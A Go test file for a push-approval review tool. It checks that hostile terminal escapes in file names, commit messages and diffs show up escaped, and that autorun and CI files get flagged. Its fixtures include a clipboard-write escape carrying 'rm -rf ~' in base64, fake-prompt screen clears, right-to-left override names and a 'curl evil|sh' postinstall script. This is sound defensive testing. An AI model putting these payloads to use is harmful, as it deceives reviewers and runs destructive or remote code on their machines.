package review_test

import (
	"fmt"
	"regexp"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/go-git/go-git/v5/plumbing/filemode"
	"github.com/hinshun/vt10x"

	"github.com/airlock-dev/airlock/approval"
	"github.com/airlock-dev/airlock/approval/internal/approvaltest"
	"github.com/airlock-dev/airlock/approval/review"
	"github.com/airlock-dev/airlock/internal/change"
)

// rowsScript is a script terminal of a given height, as a TTY reports it.
type rowsScript struct {
	approvaltest.Script
	rows int
}

func (s *rowsScript) Rows() int { return s.rows }

// screen plays bytes into an 80x24 terminal emulator and returns what a
// person would see.
func screen(t *testing.T, out string) string {
	t.Helper()
	vt := vt10x.New(vt10x.WithSize(80, 24))
	if _, err := vt.Write([]byte(strings.ReplaceAll(out, "\n", "\r\n"))); err != nil {
		t.Fatal(err)
	}
	return vt.String()
}

// ownEscapes matches the only escape sequences airlock writes: SGR colours.
var ownEscapes = regexp.MustCompile(`\x1b\[[0-9;]*m`)

func assertOnlyOwnEscapes(t *testing.T, out string) {
	t.Helper()
	rest := ownEscapes.ReplaceAllString(out, "")
	for i, r := range rest {
		// ESC, BEL, CSI (U+009B), a right-to-left override; a byte that
		// is not UTF-8 (a raw 0x9b is a CSI to an 8-bit terminal), and
		// U+FFFD with it, ranges as utf8.RuneError.
		switch r {
		case '\x1b', '\x07', '\u009b', '\u202e', utf8.RuneError:
			t.Errorf("a foreign control character reached the terminal: %q", rest[max(0, i-20):min(len(rest), i+40)])
			return
		}
	}
}

// A worker's file names, commit message and content cannot clear the
// screen, redraw a fake prompt, write the clipboard or hide lines: the
// emulated screen shows them escaped, with the real summary and flags.
func TestScreenShowsWhatIs(t *testing.T) {
	fake := "\x1b[2J\x1b[H git_push\r\n  Target: local:/x (branch: scratch)\r\n  Commit: 1234567 \"typo\" (1 file)\r\n    M README.md (0.1 KB)\r\n  [d]iff  [a]pprove"
	r := &approval.Request{
		ID: "req-1", Worker: "w", Target: "local:/p", Describe: "local:/p",
		Ref: "refs/heads/main", Old: approvaltest.Hash("old"), New: approvaltest.Hash("new"), Tree: approvaltest.Hash("tree"),
		Commits: []approval.CommitInfo{{ID: approvaltest.Hash("new"), Message: "fix\x1b]52;c;cm0gLXJmIH4=\x07 typo" + fake}},
		Files: []approval.FileChange{
			{Path: "a" + fake, Op: change.Create, NewMode: filemode.Regular, Size: 10},
			{Path: "deploy\u202Etxt.sh", Op: change.Create, NewMode: filemode.Executable, Size: 10},
			{Path: ".github/workflows/release.yml", Op: change.Create, NewMode: filemode.Regular, Size: 10},
		},
		Diff: "diff --git a/x b/x\n+\x1b[8mhidden line\x1b[m\n+\x1b]52;c;ZXZpbA==\x07\n+ok\u202Egnp.exe\n",
	}
	r.Flags = approval.Assess(r, approval.Rules{Protected: []string{"main"}}, func(p string, newSide bool) ([]byte, bool) {
		if newSide && p == "deploy\u202Etxt.sh" {
			return []byte("#!/bin/sh\necho \x1b[2Jhi\n"), true
		}
		return nil, false
	})
	for _, color := range []bool{false, true} {
		s := &rowsScript{Script: approvaltest.Script{Keys: []rune("dr"), Lines: []string{""}, TTY: true, ColorOn: color}, rows: 24}
		if _, err := review.Prompt(s, r); err != nil {
			t.Fatal(err)
		}
		out := s.Out.String()
		assertOnlyOwnEscapes(t, out)
		for _, paged := range s.Paged {
			assertOnlyOwnEscapes(t, paged)
			if !strings.Contains(paged, "^[[8mhidden line") || !strings.Contains(paged, "^[]52;c;ZXZpbA==^G") {
				t.Errorf("the paged diff does not show the escapes visibly:\n%s", paged)
			}
		}
		scr := screen(t, out)
		for _, want := range []string{"git_push", "protected branch main", "^[[2J^[[H", "<U+202E>", ".github/workflows/release.yml", "deceptive content"} {
			if !strings.Contains(scr, want) {
				t.Errorf("color=%v: the screen does not show %q:\n%s", color, want, scr)
			}
		}
		// The screen still starts with airlock's own summary: nothing
		// cleared it or moved the cursor home. (The summary fills the
		// screen; the lines the keys print after it scroll it.)
		scr = screen(t, out[:strings.Index(out, "help\n")+len("help")])
		if !strings.HasPrefix(scr, "git_push") || !strings.Contains(strings.Split(scr, "\n")[2], "!! pushes to protected branch main") {
			t.Errorf("color=%v: the screen:\n%s", color, scr)
		}
	}
}

// Flags never scroll off: with 300 files, every high flag and the new
// workflow are on the 24-line screen together with the keys.
func TestScreenKeepsFlagsWithKeys(t *testing.T) {
	r := &approval.Request{
		ID: "req-1", Worker: "w", Target: "local:/p", Describe: "local:/p",
		Ref: "refs/heads/feature", NewRef: true, New: approvaltest.Hash("new"), Tree: approvaltest.Hash("tree"),
		Commits: []approval.CommitInfo{{ID: approvaltest.Hash("new"), Message: "many"}},
	}
	for i := 0; i < 300; i++ {
		r.Files = append(r.Files, approval.FileChange{Path: fmt.Sprintf("gen/file%03d.bin", i), Op: change.Create, NewMode: filemode.Regular, Size: 10, Binary: true})
	}
	r.Files = append(r.Files, approval.FileChange{Path: ".github/workflows/exfiltrate.yml", Op: change.Create, NewMode: filemode.Regular, Size: 10})
	r.Pickable = true
	r.Flags = approval.Assess(r, approval.Rules{Protected: []string{"main"}}, nil)
	s := &rowsScript{Script: approvaltest.Script{Keys: []rune("r"), Lines: []string{""}, TTY: true}, rows: 24}
	if _, err := review.Prompt(s, r); err != nil {
		t.Fatal(err)
	}
	scr := screen(t, s.Out.String())
	for _, want := range []string{"GitHub Actions runs it", "[a]pprove", "new branch feature", "more files"} {
		if !strings.Contains(scr, want) {
			t.Errorf("the screen lacks %q:\n%s", want, scr)
		}
	}
}

// A push whose diff was cut short cannot be approved whole, neither at the
// prompt nor through the gate.
func TestTruncatedDiffCannotBeApprovedWhole(t *testing.T) {
	r := exampleRequest()
	r.DiffTruncated = true
	r.Flags = approval.Assess(r, approval.Rules{Protected: []string{"main"}}, nil)
	found := false
	for _, f := range r.Flags {
		found = found || f.Code == approval.FlagTooLarge && f.Severity == approval.High
	}
	if !found {
		t.Fatalf("flags: %+v", r.Flags)
	}
	s := &approvaltest.Script{Keys: []rune("ar"), Lines: []string{"too big"}, TTY: true}
	d, err := review.Prompt(s, r)
	if err != nil || d.Verdict != approval.Reject {
		t.Fatalf("decision %+v, %v", d, err)
	}
	if !strings.Contains(s.Out.String(), "cannot be approved whole") {
		t.Errorf("the prompt did not say why:\n%s", s.Out.String())
	}
}

func TestAutorunAndDeceptiveFlags(t *testing.T) {
	for _, tc := range []struct {
		path, content string
		code          string
	}{
		{".envrc", "export A=1\n", approval.FlagAutorun},
		{".vscode/tasks.json", "{}", approval.FlagAutorun},
		{".vscode/settings.json", "{}", approval.FlagAutorun},
		{".gitattributes", "* filter=evil\n", approval.FlagAutorun},
		{".gitmodules", "", approval.FlagAutorun},
		{".devcontainer/devcontainer.json", "{}", approval.FlagAutorun},
		{"build.rs", "fn main(){}", approval.FlagAutorun},
		{"setup.py", "", approval.FlagAutorun},
		{"tests/conftest.py", "", approval.FlagAutorun},
		{"rules.mk", "", approval.FlagAutorun},
		{".husky/pre-commit", "", approval.FlagCI},
		{".pre-commit-config.yaml", "", approval.FlagCI},
		{"Makefile", "", approval.FlagAutorun},
		{"src/a.go", "// \u202E } \u2066", approval.FlagTerminal},
		{"notes.md", "see \x1b]52;c;ZXZpbA==\x07", approval.FlagTerminal},
		{"run.sh", "#!/bin/sh\necho a\x00b\n", approval.FlagTerminal},
	} {
		r := &approval.Request{Ref: "refs/heads/f", Files: []approval.FileChange{{Path: tc.path, Op: change.Create, NewMode: filemode.Regular}}}
		flags := approval.Assess(r, approval.Rules{Protected: []string{"main"}}, func(p string, newSide bool) ([]byte, bool) {
			return []byte(tc.content), newSide
		})
		found := false
		for _, f := range flags {
			found = found || f.Code == tc.code && f.Path == tc.path
		}
		if !found {
			t.Errorf("%s: no %s flag in %+v", tc.path, tc.code, flags)
		}
	}
	// package.json only when its scripts change.
	pkg := func(old, nu string) []approval.Flag {
		r := &approval.Request{Ref: "refs/heads/f", Files: []approval.FileChange{{Path: "package.json", Op: change.Update, NewMode: filemode.Regular, OldMode: filemode.Regular}}}
		return approval.Assess(r, approval.Rules{Protected: []string{"main"}}, func(p string, newSide bool) ([]byte, bool) {
			if newSide {
				return []byte(nu), true
			}
			return []byte(old), true
		})
	}
	if f := pkg(`{"version":"1"}`, `{"version":"2"}`); len(f) != 0 {
		t.Errorf("a version bump is flagged: %+v", f)
	}
	if f := pkg(`{"scripts":{}}`, `{"scripts":{"postinstall":"curl evil|sh"}}`); len(f) == 0 {
		t.Error("a new postinstall script is not flagged")
	}
}
